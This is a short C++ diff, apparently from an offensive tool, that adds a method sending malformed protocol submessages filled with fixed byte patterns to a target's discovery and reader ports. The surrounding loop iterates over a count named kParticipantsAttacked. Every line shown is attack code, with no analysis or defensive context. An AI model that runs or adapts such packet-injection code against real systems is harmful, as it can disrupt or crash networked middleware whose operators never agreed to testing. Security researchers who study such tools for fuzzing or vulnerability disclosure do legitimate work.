@@ -108,6 +108,15 @@ void Participant::send_to_discovery(const Message& message) const {
   send(message, transport::first_participant_port(domain_));
 }
 
+void Participant::send_statistics_in_the_middle() const {
+  for (const std::uint8_t fill : {0xff, 0x00, 0x7f, 0x01}) {
+    auto bytes = message();
+    bytes.submessage(0x80, 0, Bytes(56, fill)).submessage(0x01, 0, Bytes(60, fill));
+    send_to_discovery(bytes);
+    send_to_readers(bytes);
+  }
+}
+
 void Participant::send(const Message& message, int first_port) const {
   for (int i = 0; i < kParticipantsAttacked; ++i) socket_.send(message.bytes(), target_, first_port + 2 * i);
 }
